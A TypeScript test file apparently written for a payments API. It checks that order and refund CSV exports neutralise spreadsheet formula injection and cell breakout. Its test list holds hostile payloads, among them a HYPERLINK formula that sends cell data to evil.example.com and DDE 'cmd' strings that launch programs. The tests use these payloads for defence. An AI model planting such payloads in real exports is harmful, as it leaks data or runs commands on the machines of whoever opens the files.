/** Attack: a text that a spreadsheet runs as a formula, or that breaks out of its cell. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvRow } from '../../src/api/csv.js';
import { ORDER_COLUMNS, REFUND_COLUMNS } from '../../src/api/export-columns.js';
import type { Order } from '../../src/domain/order.js';
import type { StoredRefund } from '../../src/store/refund-store.js';
import type { RunningApi } from '../api/api-environment.js';
import { ConsoleCaller } from '../console/console-caller.js';
import { type RecordStage, recordStage, seedOrder } from '../console/record-api.js';
import { anOrder } from '../support/order-builder.js';

/** What spreadsheets have been seen to run, and what opens another cell or line before it. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example.com/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|x!A0',
  '-2+3+cmd|x!A0',
  '@SUM(1+1)*cmd|x!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '","=1+1',
  '",=1+1,"',
  'x\r\n=1+1,,,',
  'x\n=1+1',
  '"',
];

const REFUND: StoredRefund = {
  merchantNo: 'M1001',
  merchantOrderNo: 'A-1',
  currency: 'USD',
  refundNo: 'A-1-R1',
  amount: 300,
  reason: 'cold coffee',
  method: 'refund',
  status: 'failed',
  requestedBy: 'shop',
  contentHash: 'content',
  requestedAt: '2026-01-01T00:00:00.000Z',
  settledAt: null,
  gatewayTransNo: null,
  submissions: 1,
  rounds: 0,
  nextCheckAt: null,
  lastQueryId: null,
  failureCode: null,
};

let stage: RecordStage;
let api: RunningApi;

beforeAll(async () => {
  stage = await recordStage();
  api = await stage.start();
});

afterAll(async () => await stage.close());

/** The cells of a file as a program reads it. Source: RFC 4180. */
function rowsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index] ?? '';
    if (isQuoted && character === '"' && text[index + 1] === '"') {
      cell += '"';
      index += 1;
    } else if (character === '"') isQuoted = !isQuoted;
    else if (!isQuoted && (character === ',' || character === '\n')) {
      row.push(cell.replace(/\r$/, ''));
      cell = '';
      if (character === '\n') {
        rows.push(row);
        row = [];
      }
    } else cell += character;
  }
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r\n\0]/;

/** An order or refund in which every text is hostile but the currency, which decides how amounts are written. */
function poisoned<T extends object>(row: T, text: string): T {
  const fields = Object.entries(row).map(([name, value]) => {
    const isText = typeof value === 'string' || value === null;
    return [name, isText && name !== 'currency' ? text : value];
  });
  return { ...Object.fromEntries(fields), decidedBy: { source: text, at: text } } as T;
}

describe('every text column of an export', () => {
  it.each(HOSTILE)(
    'when it holds %j, then it stays one cell that is no formula, in each column',
    (text) => {
      const rows = [
        [ORDER_COLUMNS.length, csvRow(ORDER_COLUMNS, poisoned(anOrder(), text))],
        [REFUND_COLUMNS.length, csvRow(REFUND_COLUMNS, poisoned(REFUND, text))],
      ] as const;
      for (const [columns, line] of rows) {
        const [cells = [], ...more] = rowsOf(line);
        expect(more).toEqual([]);
        expect(cells).toHaveLength(columns);
        for (const cell of cells) expect(cell).not.toMatch(FORMULA_START);
        const guarded = FORMULA_START.test(text) ? `'${text}` : text;
        expect(cells.filter((cell) => cell === guarded).length).toBeGreaterThan(7);
      }
    },
  );
});

describe('the exports as they are fetched', () => {
  it('when orders of hostile numbers and texts are exported, then the console’s file and the merchant’s have a guarded row for each', async () => {
    const texts = HOSTILE.filter((text) => !text.includes('\0'));
    const orders: Order[] = [];
    for (const [index, description] of texts.entries()) {
      const merchantOrderNo = `${'-@'[index % 2]}${index}-${Date.now()}`;
      const changes = { description, terminalSn: '-1', gatewayTransNo: `=${index}` };
      orders.push(await seedOrder(stage.database.stores, { merchantOrderNo, ...changes }));
    }
    const operator = await ConsoleCaller.login(api);
    const files = [
      await api.call('GET', '/v1/orders.csv'),
      await operator.call('GET', '/v1/orders.csv'),
    ];
    for (const file of files) {
      const [header = [], ...rows] = rowsOf(file.text);
      expect(rows).toHaveLength(orders.length);
      for (const row of rows) {
        expect(row).toHaveLength(header.length);
        for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      }
      const numbers = rows.map(([merchantOrderNo]) => merchantOrderNo);
      expect(numbers.sort()).toEqual(orders.map((order) => `'${order.merchantOrderNo}`).sort());
    }
  });
});
